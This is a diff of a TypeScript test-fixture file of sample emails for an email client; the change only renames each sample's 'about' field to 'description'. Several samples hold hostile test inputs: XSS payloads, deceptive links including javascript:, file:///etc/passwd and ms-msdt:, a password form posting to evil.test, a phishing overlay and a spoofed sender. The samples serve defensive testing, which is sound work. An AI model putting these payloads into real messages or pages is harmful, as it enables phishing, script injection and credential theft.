@@ -9,7 +9,7 @@ export interface EmailFile {
   readonly bytes: () => Uint8Array;
 }
 export interface EmailSample {
-  readonly about: string;
+  readonly description: string;
   readonly from?: string;
   readonly to?: readonly string[];
   readonly cc?: readonly string[];
@@ -79,12 +79,12 @@ body{background:url(https://track.test/body)}p::before{content:url("https://trac
 
 export const emailSamples = {
   plain: {
-    about: "a plain question",
+    description: "a plain question",
     subject: "Question",
     text: "Hello,\n\nwhen will my order arrive?\n\nInes",
   },
   newsletter: {
-    about: "HTML with remote pictures and a cid picture that is shown twice",
+    description: "HTML with remote pictures and a cid picture that is shown twice",
     subject: "Spring offers",
     text: "Our spring offers: https://shop.test/spring",
     html: () =>
@@ -95,37 +95,37 @@ export const emailSamples = {
     ],
   },
   codedHead: {
-    about: "a subject in two coded words of two charsets",
+    description: "a subject in two coded words of two charsets",
     subject: "😀 café",
     text: "Hello",
     raw: message("text/plain; charset=utf-8", "Hello", "=?utf-8?B?8J+YgA==?= =?iso-8859-1?Q?_caf=E9?="),
   },
   noCharset: {
-    about: "ISO-2022-JP bytes without a charset: the server read them wrongly",
+    description: "ISO-2022-JP bytes without a charset: the server read them wrongly",
     subject: "Question",
     text: "\u001b$B$3$s$K$A$O\u001b(B",
     raw: message("text/plain", "\u001b$B$3$s$K$A$O\u001b(B\r\n"),
   },
   wrongCharset: {
-    about: "said to be gb2312, with an en dash and quotes of windows-1252",
+    description: "said to be gb2312, with an en dash and quotes of windows-1252",
     subject: "Question",
     text: "Price \ufffd list \ufffdnew\ufffd",
     raw: message("text/plain; charset=gb2312", "Price \x96 list \x93new\x94\r\n"),
   },
   vietnamese: {
-    about: "windows-1258",
+    description: "windows-1258",
     subject: "Question",
     text: "Xin chào",
     raw: message("text/plain; charset=windows-1258", "Xin ch\xe0o\r\n"),
   },
   utf7: {
-    about: "charset unicode-1-1-utf-7, which browsers do not know",
+    description: "charset unicode-1-1-utf-7, which browsers do not know",
     subject: "Question",
     text: "Caf+AOk-",
     raw: message('text/plain; charset="unicode-1-1-utf-7"', "Caf+AOk-\r\n"),
   },
   quotedPrintable: {
-    about: "a soft line break at the end, and =B9 that is no UTF-8",
+    description: "a soft line break at the end, and =B9 that is no UTF-8",
     subject: "Question",
     text: "The price is \ufffd 5",
     raw: message(
@@ -136,13 +136,13 @@ export const emailSamples = {
     ),
   },
   noBoundary: {
-    about: "multipart without its boundary",
+    description: "multipart without its boundary",
     subject: "Question",
     text: "",
     raw: message("multipart/alternative", "--x\r\nContent-Type: text/plain\r\n\r\nHello\r\n--x--\r\n"),
   },
   forwarded: {
-    about: "five forwards inside each other",
+    description: "five forwards inside each other",
     subject: "Fwd: Fwd: Fwd: Fwd: Fwd: Question",
     text: "See below.",
     files: [
@@ -154,24 +154,24 @@ export const emailSamples = {
     ],
   },
   htmlOnly: {
-    about: "HTML without a plain part",
+    description: "HTML without a plain part",
     subject: "Question",
     html: () => "<p>Only <b>HTML</b> here.</p>",
   },
   cannotShow: {
-    about: "a plain part that says nothing",
+    description: "a plain part that says nothing",
     subject: "Question",
     text: "Your client cannot show this message.",
     html: () => "<p>The real words.</p>",
   },
   differentParts: {
-    about: "plain and HTML say different things",
+    description: "plain and HTML say different things",
     subject: "Invoice",
     text: "Pay 10 euros.",
     html: () => "<p>Pay 10,000 euros.</p>",
   },
   winmail: {
-    about: "nothing but winmail.dat",
+    description: "nothing but winmail.dat",
     subject: "Question",
     text: "",
     files: [
@@ -183,7 +183,7 @@ export const emailSamples = {
     ],
   },
   invitation: {
-    about: "a calendar invitation",
+    description: "a calendar invitation",
     subject: "Appointment",
     text: "Tuesday at ten",
     files: [
@@ -198,88 +198,88 @@ export const emailSamples = {
     ],
   },
   wideTable: {
-    about: "a table of 3,000 rows, 4,000 px wide",
+    description: "a table of 3,000 rows, 4,000 px wide",
     subject: "Report",
     html: () =>
       `<table width="4000">${Array.from({ length: 3_000 }, (_, i) => `<tr><td>${i}</td><td>row</td></tr>`).join("")}</table>`,
   },
   huge: {
-    about: "5 MB of HTML",
+    description: "5 MB of HTML",
     subject: "Report",
     html: () => `<div>${"<p>All work and no play.</p>".repeat(185_000)}</div>`,
   },
   hiding: {
-    about: "a style that hides everything, for the program too",
+    description: "a style that hides everything, for the program too",
     subject: "Question",
     html: () => "<style>*{display:none!important}</style><p>Can you see me?</p>",
   },
   overlay: {
-    about: "a layer over the whole window",
+    description: "a layer over the whole window",
     subject: "Question",
     html: () =>
       '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="https://evil.test/">Sign in again</a></div><p>Hello</p>',
   },
   darkText: {
-    about: "black on nothing, for dark themes",
+    description: "black on nothing, for dark themes",
     subject: "Question",
     html: () => '<p style="color:#000">Black words</p><p><font color="#111111">More</font></p>',
   },
   deceptiveLinks: {
-    about: "links that show one place and go to another, or run something",
+    description: "links that show one place and go to another, or run something",
     subject: "Your account",
     html: () =>
       '<p><a href="https://evil.test/login">https://bank.test</a> <a href="javascript:alert(1)">a</a> <a href="file:///etc/passwd">b</a> <a href="ms-msdt:/id">c</a> <a href="data:text/html,x">d</a> <a href="https://b\u0430nk.test/">bank.test</a> <a href="mailto:x@evil.test?bcc=all@evil.test">mail</a> <a href="tel:+15550100100">call</a></p>',
   },
   form: {
-    about: "a form",
+    description: "a form",
     subject: "Your account",
     html: () =>
       '<form action="https://evil.test/"><input name="password" type="password" autofocus><button>Send</button></form>',
   },
   scripts: {
-    about: "every way to run something",
+    description: "every way to run something",
     subject: "Question",
     html: () =>
       "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></svg><details open ontoggle=alert(1)>x</details><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>Words</p>",
   },
   trackers: {
-    about: "every way to ask a server when it is opened: track.test",
+    description: "every way to ask a server when it is opened: track.test",
     subject: "Thank you",
     html: trackers,
   },
   spoofedSender: {
-    about: "a name that is another address",
+    description: "a name that is another address",
     from: '"Ann <ann@bank.test>" <x@evil.test>',
     subject: "Your account",
     text: "Please confirm.",
   },
   undisclosed: {
-    about: "recipients in an empty group",
+    description: "recipients in an empty group",
     to: ["undisclosed-recipients:;"],
     subject: "News",
     text: "Hello all",
   },
   replyElsewhere: {
-    about: "an internationalised sender, and a Reply-To that is somebody else",
+    description: "an internationalised sender, and a Reply-To that is somebody else",
     from: "Jürgen <post@b\u00fccher.test>",
     replyTo: ["office@elsewhere.test"],
     subject: "Question",
     text: "Please answer to my office.",
   },
   comma: {
-    about: "a comma in the name",
+    description: "a comma in the name",
     from: '"Novak, Ines" <ines@customer.test>',
     subject: "Question",
     text: "Hello",
   },
   manyCopies: {
-    about: "400 in Cc",
+    description: "400 in Cc",
     cc: Array.from({ length: 400 }, (_, i) => `Person ${i} <person${i}@customer.test>`),
     subject: "Question for all",
     text: "Hello all",
   },
   hostileFiles: {
-    about: "names that mean to deceive, and contents that are not what they are called",
+    description: "names that mean to deceive, and contents that are not what they are called",
     subject: "My papers",
     text: "See attached.",
     files: [
@@ -293,7 +293,7 @@ export const emailSamples = {
     ],
   },
   document: {
-    about: "a PDF of three pages and a picture",
+    description: "a PDF of three pages and a picture",
     subject: "My contract",
     text: "Signed, see attached.",
     files: [
